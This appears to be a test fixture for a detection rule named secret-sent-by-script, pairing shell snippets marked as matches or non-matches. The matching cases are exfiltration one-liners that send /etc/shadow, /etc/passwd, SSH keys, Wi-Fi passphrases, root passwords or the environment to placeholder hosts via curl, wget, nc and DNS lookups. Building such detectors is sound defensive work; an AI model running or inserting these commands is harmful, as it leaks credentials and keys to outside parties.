# ruleid: secret-sent-by-script
curl -s -d "$(cat /etc/shadow)" http://198.51.100.4/u

# ruleid: secret-sent-by-script
tar cz /home/app/.ssh/ /etc/config/wireless | nc 203.0.113.8 9000

# ruleid: secret-sent-by-script
mac=$(cat /sys/class/net/eth0/address | tr -d :)
logger start
nslookup "$mac.t.example.org" > /dev/null

# ruleid: secret-sent-by-script
wget -q --post-file=/etc/passwd -O /dev/null "$where"

# ok: secret-sent-by-script
curl -s https://example.net/list > /tmp/list
# ok: secret-sent-by-script
cat /etc/passwd | cut -d: -f1
# ok: secret-sent-by-script
name=$(hostname)
ping -c1 "$name"

# ruleid: secret-sent-by-script
report=`printf '%s' "$ROOT_PASSWD" | openssl enc -base64`
sync
curl --silent --data "m=$model&r=$report" https://stats.example.net/up

# ruleid: secret-sent-by-script
nslookup "$(printf %s "$WIFI_PSK" | xxd -p).t.example.org"

# ruleid: secret-sent-by-script
curl -s "https://stats.example.net/i?m=$model&x=$root_password" > /dev/null

# ruleid: secret-sent-by-script
export -p | curl -s --data-binary @- https://stats.example.net/e

# ok: secret-sent-by-script
auth=$(printf '%s:%s' "$user" "$password" | base64)
curl -s -H "Authorization: Basic $auth" https://api.example.net/v1/list

# ok: secret-sent-by-script
curl -s -u "$user:$password" https://api.example.net/v1/list

# ok: secret-sent-by-script
curl -s "https://api.example.net/v1/$PWD" > /dev/null

# ok: secret-sent-by-script
stamp=$(echo "$build" | base64)
curl -s "https://api.example.net/b?$stamp"
